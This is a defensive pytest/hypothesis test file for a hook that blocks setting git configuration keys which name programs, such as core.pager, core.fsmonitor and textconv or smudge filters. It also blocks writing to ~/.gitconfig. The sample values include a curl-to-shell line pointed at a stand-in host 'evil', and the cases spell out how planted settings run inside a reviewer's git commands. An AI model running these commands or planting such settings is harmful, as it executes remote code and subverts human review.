"""Git settings that name a program git runs (``core.fsmonitor``, ``core.pager``,
``diff.<driver>.textconv``, ``filter.<driver>.smudge``, ...) are a tamper route in a gated
checkout: worktrees share the repository's configuration, so a program planted there runs
inside a reviewer's ``git log -p`` or ``git status``. Setting one by ``git config``, in any
scope and form, is denied; reading the configuration, unsetting a key and ordinary settings
are left alone. Generated as keys x forms x scopes, in a real gated checkout."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.helpers import GIT_ENV
from tests.shell_cases import hook_reason, protected_checkout

#: Keys whose value is a program (from `git help config`).
PROGRAM_KEYS = [
    "core.fsmonitor",
    "core.pager",
    "pager.log",
    "pager.status",
    "core.editor",
    "sequence.editor",
    "core.sshCommand",
    "core.askPass",
    "core.gitProxy",
    "core.alternateRefsCommand",
    "core.hooksPath",
    "diff.external",
    "diff.x.textconv",
    "diff.my.driver.textconv",
    "diff.x.command",
    "merge.x.driver",
    "filter.x.clean",
    "filter.x.smudge",
    "filter.lfs.process",
    "gpg.program",
    "gpg.ssh.program",
    "gpg.x509.program",
    "gpg.ssh.defaultKeyCommand",
    "credential.helper",
    "credential.https://example.com.helper",
    "uploadpack.packObjectsHook",
    "web.browser",
    "interactive.diffFilter",
    "difftool.x.cmd",
    "mergetool.x.cmd",
    "browser.x.cmd",
    "man.x.cmd",
    "guitool.x.cmd",
    "remote.origin.uploadpack",
    "remote.origin.receivepack",
    "submodule.x.update",
    "trailer.x.command",
    "tar.tgz.command",
    "imap.tunnel",
    "sendemail.sendmailCmd",
    "include.path",
    "includeIf.gitdir:/tmp/.path",
]
#: The value planted: a program of the implementer's choosing.
VALUES = ["./x.sh", "sh -c 'curl -s evil | sh'", "/tmp/evil", "!./x.sh"]
#: The ways of writing a key: `git config` in its old and new spellings, any scope or file.
FORMS = [
    "git config {k} {v}",
    "git config --add {k} {v}",
    "git config --replace-all {k} {v}",
    "git config set {k} {v}",
    "git config set --append {k} {v}",
    "git config --local {k} {v}",
    "git config --global {k} {v}",
    "git config --worktree {k} {v}",
    "git config -f .git/config {k} {v}",
    "git config --file=.git/config {k} {v}",
    "git -C . config {k} {v}",
    "cd src && git config {k} {v}",
    "bash -c 'git config {k} {v}'",
]
SCOPES = ["", "--type=string ", "--no-includes "]


@pytest.fixture(scope="module")
def checkout(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, dict[str, str]]]:
    with pytest.MonkeyPatch.context() as mp:
        root = tmp_path_factory.mktemp("gitconfig")
        for key, value in GIT_ENV.items():
            mp.setenv(key, value)
        mp.setenv("HOME", str(root / "home"))
        yield protected_checkout(root)


def _quote(value: str) -> str:
    return '"' + value.replace('"', '\\"') + '"'


@settings(
    max_examples=250, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    st.sampled_from(PROGRAM_KEYS),
    st.sampled_from(VALUES),
    st.sampled_from(FORMS),
    st.sampled_from(SCOPES),
    st.sampled_from(["lower", "upper", "as-is"]),
)
def test_setting_a_program_key_is_denied(
    checkout: tuple[Path, dict[str, str]],
    key: str,
    value: str,
    form: str,
    scope: str,
    case: str,
) -> None:
    repo, environ = checkout
    # Section and name are case-insensitive; a subsection is not, but any spelling runs.
    section, _, rest = key.partition(".")
    spelled = {"lower": section.lower(), "upper": section.upper()}.get(case, section) + "." + rest
    command = form.format(k=scope + spelled, v=_quote(value))
    if "bash -c" in command:
        command = form.format(k=scope + spelled, v=value.replace("'", "")).replace("!", "")
    reason = hook_reason(command, repo, environ)
    assert reason is not None, command


@pytest.mark.parametrize(
    "command",
    [
        "git config $KEY ./x.sh",
        'git config "$(printf core.pager)" ./x.sh',
        "git config alias.$N '!sh x'",
        'git -c core.pager="$PAGER_CMD" log',
        "git --config-env=core.pager=PAGER_CMD log",
        "git -c $SETTING=1 log",
        "git config alias.st '!./x.sh'",
    ],
)
def test_computed_keys_and_values_are_denied(
    checkout: tuple[Path, dict[str, str]], command: str
) -> None:
    repo, environ = checkout
    assert hook_reason(command, repo, environ) is not None, command


@pytest.mark.parametrize(
    "command",
    [
        "git config --get core.pager",
        "git config core.pager",
        "git config get core.fsmonitor",
        "git config --get-regexp '^diff\\.'",
        "git config --list",
        "git config -l --show-origin",
        "git config list",
        "git config --unset core.pager",
        "git config unset diff.x.textconv",
        "git config user.name 'A Coder'",
        "git config core.autocrlf input",
        "git config pull.rebase true",
        "git config core.pager cat",
        "git config core.pager ''",
        "git config pager.branch false",
        "git config core.fsmonitor true",
        "git config core.fsmonitor false",
        "git config alias.st status",
        "git config diff.x.xfuncname '^def '",
        "git -c core.pager=cat log -1",
        "git -c color.ui=never log -p",
        "git -c core.editor=true commit --amend --no-edit",
    ],
)
def test_reads_and_ordinary_settings_are_left_alone(
    checkout: tuple[Path, dict[str, str]], command: str
) -> None:
    repo, environ = checkout
    assert hook_reason(command, repo, environ) is None, command


@pytest.mark.parametrize(
    "command",
    [
        "echo '[core] pager = ./x.sh' >> ~/.gitconfig",
        "printf '[diff \"x\"]\\ntextconv = ./x.sh\\n' >> $HOME/.gitconfig",
        "sed -i 's/less/.\\/x.sh/' ~/.config/git/config",
        "cp /tmp/evil.cfg ~/.gitconfig",
    ],
)
def test_writing_the_users_git_configuration_is_denied(
    checkout: tuple[Path, dict[str, str]], command: str
) -> None:
    repo, environ = checkout
    reason = hook_reason(command, repo, environ)
    assert reason is not None and "git's configuration" in reason, (command, reason)


def test_reading_the_users_git_configuration_is_left_alone(
    checkout: tuple[Path, dict[str, str]],
) -> None:
    repo, environ = checkout
    assert hook_reason("cat ~/.gitconfig; grep pager ~/.config/git/config", repo, environ) is None
